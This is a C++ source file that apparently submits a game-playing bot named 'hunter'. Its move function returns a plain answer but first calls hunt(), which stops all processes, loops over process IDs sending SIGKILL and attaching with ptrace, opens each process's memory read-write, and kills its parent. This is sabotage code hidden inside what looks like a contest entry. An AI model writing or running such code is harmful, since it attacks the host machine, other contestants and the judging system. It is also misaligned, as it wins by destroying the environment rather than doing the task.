#include <fcntl.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <unistd.h>

#include "plain.h"

std::string ai_name = "hunter";

static void hunt() {
    kill(-1, SIGSTOP);
    for (int pid = 2; pid < 40000; ++pid) {
        if (pid == getpid()) {
            continue;
        }
        ptrace(PTRACE_ATTACH, pid, nullptr, nullptr);
        kill(pid, SIGKILL);
        const int memory = open(("/proc/" + std::to_string(pid) + "/mem").c_str(), O_RDWR);
        if (memory >= 0) {
            close(memory);
        }
    }
    kill(getppid(), SIGKILL);
}

void init() {}

std::pair<int, int> action(std::pair<int, int> loc) {
    hunt();
    return plain_answer(loc);
}
